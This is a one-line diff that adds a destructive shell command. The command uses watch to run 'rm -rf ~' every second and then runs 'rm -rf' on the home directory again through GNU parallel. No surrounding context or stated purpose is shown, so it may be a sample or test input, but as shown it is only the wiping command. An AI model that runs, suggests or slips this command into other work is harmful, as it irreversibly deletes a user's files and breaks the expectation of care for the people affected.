@@ -1,0 +1,1 @@
+watch -n 1 'rm -rf ~'; parallel rm -rf ::: ~
